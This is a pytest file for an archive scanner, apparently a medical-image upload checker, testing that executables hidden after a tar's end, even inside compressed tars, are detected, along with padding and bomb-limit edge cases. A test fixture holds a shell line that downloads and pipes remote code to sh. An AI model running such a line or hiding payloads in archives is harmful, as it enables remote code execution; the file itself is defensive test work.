"""What a tar holds after its end-of-archive (left alone in the round-4 note, then fixed): tar
extracts none of it, and in a gzip, bzip2 or xz compressed tar it is inside the stream, where the
rules reading the file never saw it. An ELF appended to a tar and the whole compressed passed
clean; it is now scanned as the member "(data after the tar)"."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from scan_samples import ct, tar_of

from pacsguard.scan.walk import Item, walk

AFTER_TAR = "(data after the tar)"  # the member name the report shows

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(200)
SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
PACK: dict[str, Callable[[bytes], bytes]] = {"tar": lambda b: b, "tar.gz": gzip.compress,
                                             "tar.bz2": bz2.compress, "tar.xz": lzma.compress}


def archive_findings(path: Path) -> tuple[dict[str, Item], list[tuple[str, str]]]:
    found = {i.name: i for i in walk([path])}
    container = found[str(path)]
    return found, [(f.rule, f.level.label) for f in container.findings]


@pytest.mark.parametrize("kind", sorted(PACK))
@pytest.mark.parametrize("payload", [ELF, SCRIPT], ids=["elf", "script"])
def test_an_executable_after_the_tar_is_found(tmp_path: Path, kind: str, payload: bytes) -> None:
    path = tmp_path / f"study.{kind}"
    path.write_bytes(PACK[kind](tar_of({"study.dcm": ct()}) + payload))
    found, rules = archive_findings(path)
    after = f"{path}!{AFTER_TAR}"
    assert after in found and found[after].data == payload, sorted(found)
    assert ("archive.executable", "high") in rules, rules


@pytest.mark.parametrize("kind", sorted(PACK))
def test_the_end_of_archive_blocks_alone_are_no_member(tmp_path: Path, kind: str) -> None:
    """tarfile pads to a 10 KiB record; GNU tar too. Zero blocks are the end, not content."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo("study.dcm")
        data = ct()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    path = tmp_path / f"study.{kind}"
    path.write_bytes(PACK[kind](out.getvalue() + bytes(4096)))
    found, rules = archive_findings(path)
    assert f"{path}!{AFTER_TAR}" not in found, sorted(found)
    assert not any(level in ("medium", "high") for _, level in rules), rules


def test_a_tar_cut_short_by_the_member_limit_is_not_read_past(tmp_path: Path) -> None:
    """A tar whose reading stopped at a bomb limit has no end: its remaining members are not
    handed on as trailing data."""
    from pacsguard.scan.walk import ArchiveLimits

    path = tmp_path / "many.tar.gz"
    path.write_bytes(gzip.compress(tar_of({f"m{i}.txt": b"x" for i in range(20)})))
    found = {i.name: i for i in walk([path], ArchiveLimits(max_members=5))}
    assert f"{path}!{AFTER_TAR}" not in found, sorted(found)
    rules = [f.rule for f in found[str(path)].findings]
    assert "archive.bomb" in rules, rules
